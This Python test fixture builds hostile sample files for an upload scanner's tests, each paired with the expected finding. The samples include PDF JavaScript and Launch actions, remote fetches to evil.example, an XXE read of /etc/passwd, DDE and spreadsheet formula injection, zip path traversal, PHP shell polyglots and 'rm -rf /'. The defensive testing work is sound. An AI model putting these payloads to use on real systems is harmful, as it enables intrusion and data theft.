"""Files that must never become clean, with what is found in each: for the tests and for `./run prove G22`."""

import io
import random
import zipfile
from collections.abc import Mapping

from exportctl.core.rules.uploads import ODS, Finding
from tests.core import made_files as made
from tests.core.made_files import (
    archive,
    attached,
    content_types,
    docx,
    jpeg,
    odf,
    paragraphs,
    pdf,
    png,
    related,
    stream,
    xlsx,
)

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PAGE = b"<html><script>alert(1)</script></html>"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
ZIP = archive({"a.txt": "a"})
MACRO_SHEET = (
    '<Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
)
ENTITIES = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><d>&b;</d>'
DDE_FIELD = "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:p>"
INCLUDED = '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example&quot; "/></w:p>'
OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'


def flipped(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def locked_archive() -> bytes:
    """Each part's flag says that a password is needed."""
    data = bytearray(docx("An offer"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 1)
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory that lead to the same octets."""
    data = docx(more={"word/a.xml": "<a/>", "word/b.xml": "<a/>"})
    second, first = data.rfind(b"PK\x01\x02"), data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x01\x02"))
    return data[: second + 42] + data[first + 42 : first + 46] + data[second + 46 :]


def twice() -> bytes:
    target = io.BytesIO(docx("An offer"))
    with zipfile.ZipFile(target, "a") as file:
        file.writestr("word\\document.xml", paragraphs("Another"))
    return target.getvalue()


def many_pages() -> bytes:
    """Twelve nodes, each ten times the child of the one before: a million million pages."""
    nodes = [b"<< /Type /Pages /Kids [%s] >>" % (b" %d 0 R" % number * 10) for number in range(7, 18)]
    return pdf(*nodes, b"<< /Type /Page >>", kids=b"[6 0 R]" if not nodes else b"[7 0 R]")


def hostile_pdfs() -> Mapping[str, tuple[bytes, Finding]]:
    return {
        "script.pdf": (pdf(catalog=b"/OpenAction " + SCRIPT), Finding.PROGRAM),
        "script_escaped.pdf": (
            pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
            Finding.PROGRAM,
        ),
        "script_packed.pdf": (made.in_object_stream(SCRIPT), Finding.PROGRAM),
        "script_in_a_stream.pdf": (
            pdf(stream(b"app.alert(1)"), catalog=b"/OpenAction << /S /JavaScript /JS 6 0 R >>"),
            Finding.PROGRAM,
        ),
        "script_by_name.pdf": (
            pdf(catalog=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % SCRIPT),
            Finding.PROGRAM,
        ),
        "script_on_a_page.pdf": (pdf(page=b"/AA << /O %s >>" % SCRIPT), Finding.PROGRAM),
        "script_out_of_reach.pdf": (pdf(SCRIPT), Finding.PROGRAM),
        "script_locked_up.pdf": (pdf(catalog=b"/Encrypt << >> /OpenAction " + SCRIPT), Finding.PROGRAM),
        "launch.pdf": (pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), Finding.PROGRAM),
        "launch_escaped.pdf": (pdf(catalog=b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), Finding.PROGRAM),
        "xfa.pdf": (pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /XFA 6 0 R >>"), Finding.PROGRAM),
        "rich_media.pdf": (
            pdf(page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]"),
            Finding.PROGRAM,
        ),
        "rendition.pdf": (
            pdf(page=b"/Annots [<< /A << /S /Rendition /R << >> >> >>]"),
            Finding.PROGRAM,
        ),
        "sends_a_form.pdf": (
            pdf(page=b"/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>"),
            Finding.REMOTE,
        ),
        "fetches_data.pdf": (pdf(catalog=b"/OpenAction << /S /ImportData /F (x) >>"), Finding.REMOTE),
        "goes_to_a_share.pdf": (
            pdf(catalog=rb"/OpenAction << /S /GoToR /F (\\\\evil.example\\x) /D [0 /Fit] >>"),
            Finding.REMOTE,
        ),
        "goes_to_a_site.pdf": (
            pdf(catalog=b"/OpenAction << /S /GoToR /F << /FS /URL /F (http://evil.example/a.pdf) >> >>"),
            Finding.REMOTE,
        ),
        "program_inside.pdf": (attached("tool.exe", b"MZ\x90\0"), Finding.PARCEL),
        "pdf_inside.pdf": (attached("more.pdf", pdf()), Finding.PARCEL),
        "page_inside.pdf": (attached("invoice.xml", b"<html xmlns='x'/>"), Finding.PROGRAM),
        "program_as_data.pdf": (attached("data.json", b"MZ\x90\0" * 9), Finding.PARCEL),
        "locked.pdf": (made.encrypted_pdf(user="geheim"), Finding.LOCKED),
        "with_an_archive.pdf": (pdf(after=ZIP), Finding.MIXED),
        "behind_an_archive.pdf": (ZIP + pdf(), Finding.MIXED),
        "with_a_page.pdf": (pdf(after=PAGE), Finding.MIXED),
        "behind_a_page.pdf": (pdf(before=PAGE), Finding.MIXED),
        "many_pages.pdf": (many_pages(), Finding.TOO_LARGE),
        "own_ancestor.pdf": (pdf(kids=b"[2 0 R]"), Finding.DAMAGED),
        "cut.pdf": (pdf()[:200], Finding.DAMAGED),
        "no_page.pdf": (pdf(kids=b"[]"), Finding.DAMAGED),
        "head_only.pdf": (b"%PDF-1.7\n", Finding.DAMAGED),
        "huge_picture.pdf": (
            pdf(stream(b"", b"/Subtype /Image /Width 90000 /Height 90000")),
            Finding.TOO_LARGE,
        ),
        "marked.pdf": (pdf(words="RESTREINT UE/EU RESTRICTED"), Finding.MARKED),
        "marked_and_locked.pdf": (made.encrypted_pdf(user="", words="VS-NfD"), Finding.MARKED),
    }


def hostile_office() -> Mapping[str, tuple[bytes, Finding]]:
    whole = docx("An offer")
    return {
        "damaged.docx": (flipped(whole, whole.rfind(b"word/document.xml", 0, 400) + 60), Finding.DAMAGED),
        "cut.docx": (whole[: len(whole) // 2], Finding.DAMAGED),
        "locked.docx": (locked_archive(), Finding.LOCKED),
        "locked_by_word.docx": (OLE + "EncryptedPackage".encode("utf-16-le"), Finding.LOCKED),
        "locked.odt": (
            odf(more={"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}),
            Finding.LOCKED,
        ),
        "not_xml.docx": (docx(more={"word/styles.xml": "<" * 1_000}), Finding.DAMAGED),
        "bomb.docx": (docx(more={"word/a.xml": "\0" * 60_000_000}), Finding.TOO_LARGE),
        "entity_bomb.docx": (docx(more={"word/a.xml": ENTITIES}), Finding.TOO_LARGE),
        "outside_entity.docx": (docx(more={"word/a.xml": OUTSIDE}), Finding.REMOTE),
        "overlapping.docx": (overlapping(), Finding.TOO_LARGE),
        "one_name_twice.docx": (twice(), Finding.MIXED),
        "behind_a_picture.docx": (png() + whole, Finding.MIXED),
        "with_a_page.docx": (whole + PAGE, Finding.MIXED),
        "out_of_its_folder.docx": (docx(more={"../../evil.txt": "x"}), Finding.PARCEL),
        "macros.docx": (docx(more={"word/vbaProject.bin": OLE}), Finding.PROGRAM),
        "macros_by_type.docx": (docx(types=content_types(kind=made.MACROS)), Finding.PROGRAM),
        "program_as_data.docx": (docx(more={"word/media/a.dat": b"MZ\x90\0"}), Finding.PROGRAM),
        "program.docx": (docx(more={"word/media/a.exe": b"x"}), Finding.PROGRAM),
        "ole.docx": (docx(more={"word/embeddings/oleObject1.bin": OLE}), Finding.PARCEL),
        "web_archive.docx": (docx(more={"word/a.mht": "MIME-Version: 1.0"}), Finding.PARCEL),
        "nested.docx": (docx(more={"word/media/a.zip": ZIP}), Finding.PARCEL),
        "nested_unnamed.docx": (docx(more={"word/media/a.png": ZIP}), Finding.PARCEL),
        "template.docx": (
            docx(
                more={
                    "word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.example/a.dotm")
                }
            ),
            Finding.REMOTE,
        ),
        "picture_of_a_share.docx": (
            docx(more={"word/_rels/document.xml.rels": related("image", r"file:///\\evil.example\a.png")}),
            Finding.REMOTE,
        ),
        "exchange.docx": (
            docx(more={"word/footer1.xml": DDE_FIELD}),
            Finding.PROGRAM,
        ),
        "includes.docx": (
            docx(more={"word/footer1.xml": INCLUDED}),
            Finding.REMOTE,
        ),
        "macro_sheet.xlsx": (
            xlsx(types=content_types("/xl/workbook.xml", made.SHEET, MACRO_SHEET)),
            Finding.PROGRAM,
        ),
        "active.xlsx": (xlsx(more={"xl/activeX/activeX1.xml": "<ax/>"}), Finding.PROGRAM),
        "exchange.xlsx": (
            xlsx(
                more={
                    "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
                }
            ),
            Finding.PROGRAM,
        ),
        "command.xlsx": (xlsx(sheet="<row><c><f>cmd|'/c calc'!A0</f></c></row>"), Finding.PROGRAM),
        "web_query.xlsx": (
            xlsx(
                more={"xl/connections.xml": '<connections><webPr url="http://evil.example"/></connections>'}
            ),
            Finding.REMOTE,
        ),
        "basic.ods": (odf(ODS, more={"Basic/Standard/Module1.xml": "<module/>"}), Finding.PROGRAM),
        "python.odt": (odf(more={"Scripts/python/evil.py": "import os"}), Finding.PROGRAM),
        "starts_itself.odt": (
            odf(body="<office:event-listeners><script:event-listener/></office:event-listeners>"),
            Finding.PROGRAM,
        ),
        "picture_elsewhere.odt": (
            odf(body='<draw:image xlink:href="http://evil.example/a.png"/>'),
            Finding.REMOTE,
        ),
        "command.ods": (odf(ODS, body="<c table:formula=\"cmd|'/c calc'!A0\"/>"), Finding.PROGRAM),
        "marked.docx": (docx(more={"word/header1.xml": paragraphs("EU CONFIDENTIAL")}), Finding.MARKED),
        "watermark.docx": (
            docx(more={"word/header1.xml": '<w:p><v:textpath string="NATO RESTRICTED"/></w:p>'}),
            Finding.MARKED,
        ),
        "marked.xlsx": (
            xlsx(more={"xl/worksheets/sheet2.xml": "<s><oddHeader>&amp;CEU SECRET</oddHeader></s>"}),
            Finding.MARKED,
        ),
        "old_word.docx": (OLE, Finding.MISMATCH),
        "sheet.docx": (xlsx(), Finding.MISMATCH),
        "archive.docx": (ZIP, Finding.MISMATCH),
    }


def hostile_others() -> Mapping[str, tuple[bytes, Finding]]:
    noise = random.Random(7).randbytes(400)
    return {
        "with_a_page.png": (png() + PAGE, Finding.MIXED),
        "with_an_archive.png": (png() + ZIP, Finding.MIXED),
        "says_a_script.png": (png(words=b"<?php system('id');"), Finding.MIXED),
        "huge.png": (png(60_000, 60_000), Finding.TOO_LARGE),
        "cut.png": (png()[:-20], Finding.DAMAGED),
        "flipped.png": (flipped(png(), 45), Finding.DAMAGED),
        "with_a_script.jpg": (jpeg(words=b"<?php system('id');"), Finding.MIXED),
        "with_an_archive.jpg": (jpeg(after=ZIP), Finding.MIXED),
        "cut.jpg": (jpeg()[:-4], Finding.DAMAGED),
        "huge.jpg": (jpeg(60_000, 60_000), Finding.TOO_LARGE),
        "png.jpg": (png(), Finding.MISMATCH),
        "empty.pdf": (b"", Finding.EMPTY),
        "tool.exe": (b"MZ\x90\0" * 20, Finding.KIND),
        "tool.pdf": (b"MZ\x90\0" * 20, Finding.MISMATCH),
        "tool.txt": (b"MZ\x90\0" * 20, Finding.MISMATCH),
        "page.html": (PAGE, Finding.KIND),
        "page.txt": (b"\n " + PAGE, Finding.MISMATCH),
        "page_wide.txt": (PAGE.decode().encode("utf-16"), Finding.MISMATCH),
        "picture.svg": (b"<svg onload='alert(1)'/>", Finding.KIND),
        "script.txt": (b"#!/bin/sh\nrm -rf /\n", Finding.MISMATCH),
        "rich.txt": (b"{\\rtf1 hello}", Finding.MISMATCH),
        "postscript.txt": (b"%!PS-Adobe", Finding.MISMATCH),
        "noise.csv": (noise, Finding.MISMATCH),
        "command.csv": (b"name;=cmd|'/c calc'!A0\n", Finding.PROGRAM),
        "plain.zip": (ZIP, Finding.KIND),
        "noending": (pdf(), Finding.KIND),
        "double.pdf.exe": (pdf(), Finding.KIND),
        "marked.txt": ("Einstufung: VS – NUR FÜR DEN DIENSTGEBRAUCH".encode(), Finding.MARKED),
        "marked_between.txt": (b"RESTREINT\nUE/EU RESTRICTED", Finding.MARKED),
        "marked_unseen.txt": ("EU RES\u200bTRICTED".encode(), Finding.MARKED),
        "marked_wide.txt": ("SECRET UE".encode("utf-16"), Finding.MARKED),
        "EU-CONFIDENTIAL annex.pdf": (pdf(), Finding.MARKED),
        "vs-nfd.pdf": (pdf(), Finding.MARKED),
    }


HOSTILE: Mapping[str, tuple[bytes, Finding]] = {**hostile_pdfs(), **hostile_office(), **hostile_others()}
